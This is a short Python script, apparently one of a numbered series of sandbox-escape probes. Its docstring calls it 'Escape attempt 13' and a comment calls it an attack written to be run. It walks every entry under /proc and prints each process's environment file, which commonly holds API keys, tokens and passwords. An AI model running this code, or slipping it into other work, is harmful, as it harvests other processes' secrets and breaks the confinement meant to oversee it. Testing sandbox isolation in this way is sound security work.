"""Escape attempt 13: read all proc environ."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import os

for p in os.listdir("/proc"):
    try:
        print(open("/proc/" + p + "/environ", "rb").read())
    except Exception as e:
        print(e)
